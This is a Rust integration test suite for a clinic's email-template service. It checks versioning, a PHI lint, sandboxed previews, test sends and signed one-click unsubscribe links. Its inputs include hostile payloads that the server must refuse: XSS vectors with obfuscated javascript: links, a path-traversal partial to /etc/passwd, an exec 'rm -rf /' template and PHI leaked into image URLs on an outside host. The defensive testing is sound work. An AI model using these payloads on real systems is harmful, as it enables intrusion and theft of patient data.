//! Templates through the real server: versions, drafts, hostile templates, the PHI lint, previews
//! (synthetic and audited real-contact), test send through the mail path, and the system links a
//! recipient uses (opaque tokens, one-click unsubscribe, preferences, view in browser).

use crate::contacts::{MARKER_EMAIL, MARKER_FIRST, scalar};
use crate::harness::*;
use domain::Role;
use serde_json::{Value, json};

fn html_content(subject: &str, html: &str) -> Value {
    json!({ "mode": "html", "subject": subject, "preheader": "", "design": { "blocks": [] },
            "html": html, "text": "", "text_edited": false })
}

async fn create(c: &Client, name: &str, starter: &str) -> String {
    let (s, id) = c.call("create_template", &[("name", name), ("starter", starter)]).await;
    assert_eq!(s, 200, "{id}");
    id.as_str().unwrap().to_string()
}

async fn save(c: &Client, id: &str, base: i64, content: Value) -> (u16, Value) {
    c.call_json("save_template", json!({ "id": id, "base_version": base, "content": content })).await
}

#[tokio::test]
async fn templates_are_versioned_and_hostile_templates_are_refused_without_losing_work() {
    let app = TestApp::start().await;
    let org = app.org_with_user("Clinic", "admin@clinic.test", Role::Admin).await;
    app.add_user(org, "analyst@clinic.test", Role::Analyst).await;
    app.org_with_user("Other", "other@other.test", Role::Admin).await;
    let (admin, _) = app.sign_in("admin@clinic.test", None).await;

    // Starters: all four exist and each creates a valid first version.
    let (_, starters) = admin.call("template_starters", &[]).await;
    let keys: Vec<&str> = starters.as_array().unwrap().iter().map(|s| s["key"].as_str().unwrap()).collect();
    for k in ["appointment_reminder", "newsletter", "screening_reminder", "event_invitation"] {
        assert!(keys.contains(&k), "{keys:?}");
        create(&admin, &format!("From {k}"), k).await;
    }
    let id = create(&admin, "Reminder", "appointment_reminder").await;
    let (s, e) = admin.call("open_template", &[("id", &id)]).await;
    assert_eq!(s, 200, "{e}");
    assert_eq!(e["version"], 1);
    assert_eq!(e["uses_phi"], true, "the starter greets by first name, a PHI field");
    let html = e["content"]["html"].as_str().unwrap();
    assert!(html.contains("{{links.unsubscribe}}") && html.contains("role=\"presentation\""));
    let fields = e["fields"].as_array().unwrap();
    assert!(fields.iter().any(|f| f["tag"] == "{{contact.first_name}}" && f["is_phi"] == true));
    assert!(fields.iter().any(|f| f["tag"] == "{{contact.time_zone}}" && f["is_phi"] == false));

    // A change is a new version; saving the same content again is not.
    let ok =
        html_content("Your visit with {{organisation.name}}", "<p>Hello {{default contact.first_name \"there\"}}</p>");
    let (s, r) = save(&admin, &id, 1, ok.clone()).await;
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["Saved"]["version"], 2);
    assert_eq!(r["Saved"]["uses_phi"], true);
    assert!(r["Saved"]["text"].as_str().unwrap().contains("Hello"), "plain text generated from the HTML: {r}");
    assert_eq!(save(&admin, &id, 2, ok.clone()).await.1["Unchanged"]["version"], 2);
    let (s, r) = save(&admin, &id, 1, ok.clone()).await;
    assert_eq!(s, 409, "a stale editor cannot overwrite a newer version: {r}");

    // Hostile and broken templates: refused with a plain message, kept as a draft, version unchanged.
    let deep = format!("{}x{}", "{{#if contact.first_name}}".repeat(100), "{{/if}}".repeat(100));
    let many = "{{contact.first_name}}".repeat(5000);
    let big = format!("<p>{}</p>", "a".repeat(300 * 1024));
    let cases: Vec<(Value, &str)> = vec![
        (html_content("Hi", "<p>{{> ../../etc/passwd}}</p>"), "partial"),
        (html_content("Hi", "<p>{{exec \"rm -rf /\"}}</p>"), "exec"),
        (html_content("Hi", "<p>{{#each contact}}{{this}}{{/each}}</p>"), "each"),
        (html_content("Hi", "<p>{{contact.ssn}}</p>"), "contact.ssn"),
        (html_content("Hi", "<p>{{#if contact.first_name}}unclosed</p>"), "html"),
        (html_content("Hi", &deep), "nest"),
        (html_content("Hi", &many), "merge tags"),
        (html_content("Hi", &big), "256 KB"),
        (html_content("Hi", "<p>{{{contact.first_name}}}</p>"), "html"),
        (html_content("Hi", "<p>ok</p><script>alert(1)</script>"), "script"),
        (html_content("Hi", "<img src=x onerror=alert(1)>"), "event-handler"),
        (html_content("Hi", "<a href=\"JavaScript:alert(1)\">x</a>"), "javascript"),
        (html_content("Hi", "<a href=\"jav&#x61;script:alert(1)\">x</a>"), "javascript"),
        (html_content("Hi", "<a href=\"java&Tab;script&colon;alert(1)\">x</a>"), "javascript"),
        (html_content("Hello {{contact.first_name}}", "<p>x</p>"), "lock screens"),
        (
            html_content("Hi", "<p>x</p>")
                .as_object()
                .cloned()
                .map(|mut o| {
                    o.insert("preheader".into(), json!("Your result, {{contact.last_name}}"));
                    Value::Object(o)
                })
                .unwrap(),
            "lock screens",
        ),
    ];
    for (content, expect) in cases {
        let (s, r) = save(&admin, &id, 2, content).await;
        assert_eq!(s, 200, "{r}");
        let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("expected a draft for {expect}: {r}"));
        assert!(why.to_lowercase().contains(&expect.to_lowercase()), "message for {expect}: {why}");
        assert!(!why.contains("rm -rf"), "messages do not echo template text");
    }
    let (_, e) = admin.call("open_template", &[("id", &id)]).await;
    assert_eq!(e["latest_version"], 2, "no hostile content became a version");
    assert!(e["draft"]["error"].as_str().unwrap().contains("lock screens"), "the last draft is restored: {e}");
    assert_eq!(e["content"]["html"], "<p>Hello {{default contact.first_name \"there\"}}</p>");
    // Blocks whose links are not http(s)/mailto are refused too.
    let blocks = json!({ "mode": "blocks", "subject": "Hi", "preheader": "", "html": "", "text": "", "text_edited": false,
        "design": { "blocks": [ { "type": "button", "label": "Go", "url": "javascript:alert(1)" } ] } });
    let (_, r) = save(&admin, &id, 2, blocks).await;
    assert!(r["DraftKept"]["error"].as_str().unwrap().contains("block 1"), "{r}");

    // A 10 MB body never reaches the service: the request is refused, and the server carries on.
    let huge = html_content("Hi", &"x".repeat(10 * 1024 * 1024));
    let (s, _) = save(&admin, &id, 2, huge).await;
    assert_eq!(s, 413);
    assert_eq!(admin.call("open_template", &[("id", &id)]).await.0, 200, "the server is still answering");

    // Roles and tenants.
    let (analyst, _) = app.sign_in("analyst@clinic.test", None).await;
    assert_eq!(analyst.call("open_template", &[("id", &id)]).await.0, 200, "analysts may read templates");
    assert_eq!(save(&analyst, &id, 2, ok.clone()).await.0, 403);
    assert_eq!(analyst.call("create_template", &[("name", "X"), ("starter", "")]).await.0, 403);
    let (other, _) = app.sign_in("other@other.test", None).await;
    assert_eq!(other.call("open_template", &[("id", &id)]).await.0, 404);
    assert_eq!(save(&other, &id, 2, ok).await.0, 404);
    assert_eq!(other.get(&format!("/templates/{id}/preview/2")).await.status, 404);

    // Audit: creation and each saved version.
    assert_eq!(scalar(&app, "SELECT count(*) FROM audit_event WHERE action = 'template.saved'").await, 1);
    assert_eq!(scalar(&app, "SELECT count(*) FROM audit_event WHERE action = 'template.created'").await, 5);
    app.stop().await;
}

#[tokio::test]
async fn previews_are_sandboxed_and_real_contact_previews_are_audited_and_test_sends_arrive() {
    let app = TestApp::start_with(Options { dns: true, ..Default::default() }).await;
    let org = app.org_with_user("Clinic", "admin@clinic.test", Role::Admin).await;
    app.add_user(org, "analyst@clinic.test", Role::Analyst).await;
    let (admin, _) = app.sign_in("admin@clinic.test", None).await;
    let (s, contact) = admin
        .call_json(
            "create_contact",
            json!({ "input": { "fields": { "email": MARKER_EMAIL, "first_name": MARKER_FIRST } } }),
        )
        .await;
    assert_eq!(s, 200, "{contact}");
    let contact = contact.as_str().unwrap().to_string();
    let id = create(&admin, "Newsletter", "newsletter").await;
    let (_, e) = admin.call("open_template", &[("id", &id)]).await;
    let content = e["content"].clone();

    // Synthetic preview: made-up person, no audit.
    let (s, p) =
        admin.call_json("preview_template", json!({ "id": id, "content": content, "sample": "Synthetic" })).await;
    assert_eq!(s, 200, "{p}");
    assert!(p["html"].as_str().unwrap().contains("Alex"), "synthetic first name");
    assert!(p["html"].as_str().unwrap().contains("/l/unsubscribe/"), "a working unsubscribe link");
    assert!(p["text"].as_str().unwrap().contains("/l/unsubscribe/"));
    assert_eq!(
        scalar(&app, "SELECT count(*) FROM audit_event WHERE action = 'template.previewed_for_contact'").await,
        0
    );

    // Real contact: the PHI read is audited; analysts may not do it.
    let (s, p) = admin
        .call_json("preview_template", json!({ "id": id, "content": content, "sample": { "Contact": contact } }))
        .await;
    assert_eq!(s, 200, "{p}");
    assert!(p["html"].as_str().unwrap().contains(MARKER_FIRST));
    assert_eq!(
        scalar(&app, "SELECT count(*) FROM audit_event WHERE action = 'template.previewed_for_contact'").await,
        1
    );
    let (analyst, _) = app.sign_in("analyst@clinic.test", None).await;
    let (s, _) = analyst
        .call_json("preview_template", json!({ "id": id, "content": content, "sample": { "Contact": contact } }))
        .await;
    assert_eq!(s, 403);
    assert_eq!(
        analyst.call_json("preview_template", json!({ "id": id, "content": content, "sample": "Synthetic" })).await.0,
        200
    );

    // The preview frame: author HTML under a CSP that forbids scripts and sandboxes the document.
    let frame = admin.get(&format!("/templates/{id}/preview/1?sample={contact}")).await;
    assert_eq!(frame.status, 200, "{}", frame.body);
    let csp = frame.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("sandbox") && csp.contains("default-src 'none'") && !csp.contains("script-src"), "{csp}");
    assert_eq!(frame.headers["x-frame-options"], "SAMEORIGIN");
    assert!(frame.body.contains(MARKER_FIRST));
    assert_eq!(
        scalar(&app, "SELECT count(*) FROM audit_event WHERE action = 'template.previewed_for_contact'").await,
        2
    );
    assert_eq!(app.client().get(&format!("/templates/{id}/preview/1")).await.status, 401);

    // Test send: only From the organisation's own verified sending domain — refused before it has one.
    let (s, msg) = admin.call_json("test_send_template", json!({ "id": id, "content": content })).await;
    assert_eq!(s, 422, "{msg}");
    assert!(msg["message"].as_str().unwrap().contains("Sending domains"), "{msg}");
    let domain = app.verified_domain(org, "clinic.test").await;
    // Through the mail path to the user's own address, with one-click unsubscribe headers.
    let (s, msg) = admin.call_json("test_send_template", json!({ "id": id, "content": content })).await;
    assert_eq!(s, 200, "{msg}");
    let mail = service::mail::captured(&app.services, &service::Actor::system(org, "test"), 10).await.unwrap();
    let m = mail.first().expect("a captured test message");
    assert_eq!(m.recipient.expose(), "admin@clinic.test");
    assert!(m.subject.expose().starts_with("[Test] "));
    let raw = m.raw.expose().replace("=\r\n", "");
    assert!(raw.contains("List-Unsubscribe-Post: List-Unsubscribe=One-Click"), "{raw}");
    assert!(raw.contains("Content-Type: text/plain") && raw.contains("Content-Type: text/html"));
    assert!(!raw.contains(MARKER_FIRST), "test sends use made-up data");
    // (Headers from the message as it arrived: `raw` above has quoted-printable soft breaks removed.)
    let from = m.raw.expose().lines().find(|l| l.starts_with("From: ")).unwrap();
    assert!(from.contains("@clinic.test>"), "{from}");
    let signature = m.raw.expose().lines().find(|l| l.starts_with("DKIM-Signature: ")).unwrap();
    assert!(
        signature.contains("d=clinic.test;") && signature.contains(&format!("s={};", domain.selector)),
        "{signature}"
    );
    let at = raw.find("/l/unsubscribe/").unwrap() + "/l/unsubscribe/".len();
    let token: String = raw[at..].chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_').collect();
    let guest = app.client();
    let page = guest.get(&format!("/l/unsubscribe/{token}")).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("test message"), "{}", page.body);
    // Test sends are rate-limited per user.
    let mut last = 200;
    for _ in 0..12 {
        last = admin.call_json("test_send_template", json!({ "id": id, "content": content })).await.0;
    }
    assert_eq!(last, 429);
    app.stop().await;
}

#[tokio::test]
async fn system_links_are_opaque_signed_and_unsubscribe_in_one_click() {
    use service::links::{LinkKind, LinkSubject};
    let app = TestApp::start().await;
    let org = app.org_with_user("Clinic", "admin@clinic.test", Role::Admin).await;
    let (admin, _) = app.sign_in("admin@clinic.test", None).await;
    let (_, contact) = admin
        .call_json(
            "create_contact",
            json!({ "input": { "fields": { "email": MARKER_EMAIL, "first_name": MARKER_FIRST } } }),
        )
        .await;
    let contact: uuid::Uuid = contact.as_str().unwrap().parse().unwrap();
    let c = contact.to_string();
    assert_eq!(
        admin
            .call(
                "record_consent",
                &[("contact_id", &c), ("purpose", "marketing"), ("granted", "true"), ("consent_text", "")]
            )
            .await
            .0,
        200
    );
    let id = create(&admin, "Plain", "").await;
    let (s, r) = save(
        &admin,
        &id,
        1,
        html_content(
            "News from {{organisation.name}}",
            "<html><body><p>Hello from {{organisation.name}} ({{contact.time_zone}})</p></body></html>",
        ),
    )
    .await;
    assert_eq!(r["Saved"]["uses_phi"], false, "{s} {r}");
    let (_, e) = admin.call("open_template", &[("id", &id)]).await;
    let version_id: uuid::Uuid = e["version_id"].as_str().unwrap().parse().unwrap();
    let subject = LinkSubject::Contact { contact, message: version_id };
    let now = app.now();
    let unsub = service::links::token(&app.services, org, LinkKind::Unsubscribe, subject, now).await.unwrap();
    let prefs = service::links::token(&app.services, org, LinkKind::Preferences, subject, now).await.unwrap();
    let view = service::links::token(&app.services, org, LinkKind::ViewInBrowser, subject, now).await.unwrap();

    // Opaque: nothing about the contact or the message can be read from the token.
    let hex = contact.simple().to_string();
    let b64 = data_encoding::BASE64URL_NOPAD.encode(contact.as_bytes());
    for t in [&unsub, &prefs, &view] {
        assert!(!t.contains(&hex) && !t.contains(&b64[..20]) && !t.contains(&c), "token leaks the contact id");
        assert!(t.len() <= 160);
    }

    // Forged, bit-flipped, wrong-kind and expired tokens answer 404 and change nothing.
    let guest = app.client();
    let mut flipped = unsub.clone().into_bytes();
    let i = flipped.len() / 2;
    flipped[i] = if flipped[i] == b'A' { b'B' } else { b'A' };
    let flipped = String::from_utf8(flipped).unwrap();
    for bad in [flipped.as_str(), prefs.as_str(), "AAAA", &"A".repeat(400), "%00", "..%2F..%2Fetc%2Fpasswd"] {
        let r = guest
            .post_raw(
                &format!("/l/unsubscribe/{bad}"),
                "application/x-www-form-urlencoded",
                "List-Unsubscribe=One-Click".into(),
                None,
                &[],
            )
            .await;
        assert!(matches!(r.status, 404 | 400), "{bad}: {}", r.status);
        assert!(r.headers.get("location").is_none(), "never a redirect");
    }
    let consent_sql =
        format!("SELECT count(*) FROM contact_consent WHERE contact_id = '{c}' AND purpose = 'marketing' AND granted");
    let consent = || scalar(&app, &consent_sql);
    assert_eq!(consent().await, 1);

    // GET shows a confirmation and changes nothing (mail scanners fetch links).
    let page = guest.get(&format!("/l/unsubscribe/{unsub}")).await;
    assert_eq!(page.status, 200);
    assert!(page.body.contains("<form method=\"post\">") && page.body.contains("Clinic"));
    assert!(!page.body.contains(MARKER_FIRST) && !page.body.contains(MARKER_EMAIL), "no PHI on the page");
    assert_eq!(consent().await, 1);

    // RFC 8058 one-click: a POST with no cookies, no CSRF token, from anywhere.
    let r = guest
        .post_raw(
            &format!("/l/unsubscribe/{unsub}"),
            "application/x-www-form-urlencoded",
            "List-Unsubscribe=One-Click".into(),
            None,
            &[("origin", "https://mail.example.net")],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert!(r.body.contains("unsubscribed"));
    assert_eq!(consent().await, 0);
    // A test message has no purpose, so the link withdraws every purpose the patient receives:
    // marketing (granted) and transactional (received without a grant) — one ledger event and
    // one audit row each; care communications was never granted, so nothing changes there.
    for (purpose, n) in [("marketing", 1), ("transactional", 1), ("care_communications", 0)] {
        assert_eq!(
            scalar(
                &app,
                &format!(
                    "SELECT count(*) FROM consent_event WHERE contact_id = '{c}' AND source = 'unsubscribe' AND NOT granted AND purpose = '{purpose}'"
                )
            )
            .await,
            n,
            "{purpose}"
        );
    }
    assert_eq!(scalar(&app, "SELECT count(*) FROM audit_event WHERE action = 'recipient.unsubscribed'").await, 2);
    // Again: idempotent, no second ledger event.
    guest
        .post_raw(&format!("/l/unsubscribe/{unsub}"), "application/x-www-form-urlencoded", String::new(), None, &[])
        .await;
    assert_eq!(
        scalar(
            &app,
            &format!("SELECT count(*) FROM consent_event WHERE contact_id = '{c}' AND source = 'unsubscribe'")
        )
        .await,
        2
    );

    // Preferences: opt back in from the link.
    let r = guest
        .post_raw(
            &format!("/l/preferences/{prefs}"),
            "application/x-www-form-urlencoded",
            "purpose=marketing&granted=true".into(),
            None,
            &[],
        )
        .await;
    assert_eq!(r.status, 200, "{}", r.body);
    assert_eq!(consent().await, 1);
    let r = guest
        .post_raw(
            &format!("/l/preferences/{prefs}"),
            "application/x-www-form-urlencoded",
            "purpose=everything&granted=true".into(),
            None,
            &[],
        )
        .await;
    assert_eq!(r.status, 400);

    // View in browser: re-rendered (nothing stored), author HTML sandboxed; PHI templates are not shown.
    let r = guest.get(&format!("/l/view/{view}")).await;
    assert_eq!(r.status, 200);
    assert!(r.body.contains("Hello from Clinic"), "{}", r.body);
    assert!(r.headers["content-security-policy"].to_str().unwrap().contains("sandbox"));
    let (_, r2) = save(&admin, &id, 2, html_content("Hi", "<p>Hello {{contact.first_name}}</p>")).await;
    let phi_version: uuid::Uuid =
        admin.call("open_template", &[("id", &id)]).await.1["version_id"].as_str().unwrap().parse().unwrap();
    assert_eq!(r2["Saved"]["uses_phi"], true);
    let phi_view = service::links::token(
        &app.services,
        org,
        LinkKind::ViewInBrowser,
        LinkSubject::Contact { contact, message: phi_version },
        now,
    )
    .await
    .unwrap();
    let r = guest.get(&format!("/l/view/{phi_view}")).await;
    assert!(r.body.contains("email app") && !r.body.contains(MARKER_FIRST), "{}", r.body);

    // Links expire after a year.
    app.advance(366 * 24 * 3600);
    assert_eq!(guest.get(&format!("/l/unsubscribe/{unsub}")).await.status, 404);
    app.stop().await;
}

/// Issue 18 item 8: a template could put PHI into a URL (`<img src="https://x/?dob={{contact.date_of_birth}}">`)
/// and every mail client would send it to that host. PHI merge fields are refused in every
/// URL-bearing attribute and in CSS, in raw HTML and in the block editor; real-contact previews
/// load nothing remote.
#[tokio::test]
async fn phi_merge_fields_are_refused_in_urls_and_real_contact_previews_load_nothing_remote() {
    let app = TestApp::start().await;
    app.org_with_user("Clinic", "admin@clinic.test", Role::Admin).await;
    let (admin, _) = app.sign_in("admin@clinic.test", None).await;
    let (s, f) = admin
        .call_json(
            "create_field",
            json!({ "key": "diagnosis", "label": "Diagnosis", "field_type": "text", "options": [], "is_phi": true }),
        )
        .await;
    assert_eq!(s, 200, "{f}");
    let (s, f) = admin
        .call_json(
            "create_field",
            json!({ "key": "clinic_site", "label": "Clinic site", "field_type": "text", "options": [], "is_phi": false }),
        )
        .await;
    assert_eq!(s, 200, "{f}");
    let id = create(&admin, "Leaky", "").await;

    // Raw HTML: refused with the field and the attribute named; the work is kept as a draft.
    let (s, r) =
        save(&admin, &id, 1, html_content("Hi", "<p>Hi</p><img src=\"https://x/?dob={{contact.date_of_birth}}\">"))
            .await;
    assert_eq!(s, 200, "{r}");
    let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("the PHI URL was accepted: {r}"));
    assert!(why.contains("Date of birth") && why.contains("src"), "{why}");
    for (html, field, place) in [
        ("<a HREF='https://x/{{contact.diagnosis}}'>x</a>", "Diagnosis", "href"),
        ("<img srcset=\"a.png 1x, https://x/{{ contact.last_name }}.png 2x\">", "Last name", "srcset"),
        ("<table background=https://x/{{contact.email}}><tr><td>x</td></tr></table>", "Email", "background"),
        ("<td style=\"background:url('https://x/{{upper contact.first_name}}')\">x</td>", "First name", "style"),
        ("<style>.a{background-image:url(https://x/{{contact.phone}})}</style><p>x</p>", "Phone", "<style>"),
        ("<img s&#114;c=\"https://x/{{contact.diagnosis}}\">", "Diagnosis", "src"),
        ("<v:image xlink:href=\"https://x/{{#if contact.diagnosis}}y{{/if}}\"/>", "Diagnosis", "xlink:href"),
    ] {
        let (_, r) = save(&admin, &id, 1, html_content("Hi", &format!("<p>Hello</p>{html}"))).await;
        let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("accepted: {html}: {r}"));
        assert!(why.contains(field) && why.contains(place), "{html}: {why}");
    }
    // Block editor: images, buttons and links in text.
    let blocks = |b: Value| {
        json!({ "mode": "blocks", "subject": "Hi", "preheader": "", "html": "", "text": "", "text_edited": false,
                "design": { "blocks": [b] } })
    };
    for (block, field) in [
        (
            json!({ "type": "image", "src": "https://x/p.png?d={{contact.date_of_birth}}", "alt": "", "width": null, "link": null }),
            "Date of birth",
        ),
        (
            json!({ "type": "image", "src": "https://x/p.png", "alt": "", "width": null, "link": "https://x/{{contact.diagnosis}}" }),
            "Diagnosis",
        ),
        (json!({ "type": "button", "label": "Go", "url": "https://x/?n={{contact.last_name}}" }), "Last name"),
        (json!({ "type": "text", "text": "See [your page](https://x/{{contact.email}})" }), "Email"),
    ] {
        let (_, r) = save(&admin, &id, 1, blocks(block.clone())).await;
        let why = r["DraftKept"]["error"].as_str().unwrap_or_else(|| panic!("accepted: {block}: {r}"));
        assert!(why.contains(field) && why.contains("block 1"), "{block}: {why}");
    }
    let (_, e) = admin.call("open_template", &[("id", &id)]).await;
    assert_eq!(e["latest_version"], 1, "nothing leaky became a version");

    // Still allowed: system links, non-PHI fields in URLs, PHI in the body text.
    let ok = "<p>Hello {{contact.first_name}}, about {{contact.diagnosis}}.</p>\
              <p><a href=\"https://clinic.example/{{contact.clinic_site}}\">Your clinic</a> \
              <img src=\"https://clinic.example/logo.png\" alt=\"\"> <a href=\"{{links.unsubscribe}}\">Unsubscribe</a></p>";
    let (_, r) = save(&admin, &id, 1, html_content("Hi", ok)).await;
    assert_eq!(r["Saved"]["version"], 2, "{r}");
    assert_eq!(r["Saved"]["uses_phi"], true);

    // Previews: made-up data may show https images; a real contact's preview loads nothing remote.
    let (_, contact) =
        admin.call_json("create_contact", json!({ "input": { "fields": { "email": MARKER_EMAIL } } })).await;
    let contact = contact.as_str().unwrap().to_string();
    let synthetic = admin.get(&format!("/templates/{id}/preview/2?sample=synthetic")).await;
    assert_eq!(synthetic.status, 200);
    let csp = synthetic.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("img-src https: data:"), "{csp}");
    let real = admin.get(&format!("/templates/{id}/preview/2?sample={contact}")).await;
    assert_eq!(real.status, 200);
    let csp = real.headers["content-security-policy"].to_str().unwrap();
    assert!(csp.contains("img-src data:") && !csp.contains("https:") && !csp.contains("http:"), "{csp}");
    assert!(csp.contains("default-src 'none'") && csp.contains("sandbox"), "{csp}");
    app.stop().await;
}
